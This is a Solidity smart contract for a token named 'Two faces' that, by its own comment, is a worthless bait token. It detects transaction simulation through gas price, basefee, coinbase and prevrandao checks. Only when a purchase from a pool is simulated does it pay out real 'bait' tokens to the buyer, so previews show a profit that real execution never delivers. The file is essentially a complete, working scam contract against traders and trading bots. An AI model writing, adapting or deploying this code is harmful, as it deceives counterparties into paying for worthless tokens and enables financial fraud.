// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface Bait {
    function transfer(address to, uint256 value) external returns (bool);
}

/// A worthless token that pays real tokens to whoever gets it from a pool, but only while a transaction is simulated.
/// A simulation shows itself by what it leaves out or makes up of the block and the fees.
contract TwoFacedToken {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    string public constant name = "Two faces";
    string public constant symbol = "TWO";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address owner => uint256) public balanceOf;
    mapping(address owner => mapping(address spender => uint256)) public allowance;
    mapping(address => bool) public isPool;
    address public miner;
    address[] public baits;
    uint256[] public amounts;

    function arm(address miner_, address[] calldata pools, address[] calldata baits_, uint256[] calldata amounts_)
        external
    {
        miner = miner_;
        baits = baits_;
        amounts = amounts_;
        for (uint256 i = 0; i < pools.length; i++) isPool[pools[i]] = true;
    }

    function mint(address[] calldata to, uint256 each) external {
        totalSupply += each * to.length;
        for (uint256 i = 0; i < to.length; i++) balanceOf[to[i]] += each;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        require(allowed >= value, "allowance too small");
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        move(from, to, value);
        return true;
    }

    function isSimulated() public view returns (bool) {
        return tx.gasprice == 0 || block.basefee == 0 || block.coinbase != miner || block.prevrandao == 0;
    }

    function move(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance too small");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        if (!isPool[from] || isPool[to] || !isSimulated()) return;
        for (uint256 i = 0; i < baits.length; i++) Bait(baits[i]).transfer(tx.origin, amounts[i]);
    }
}
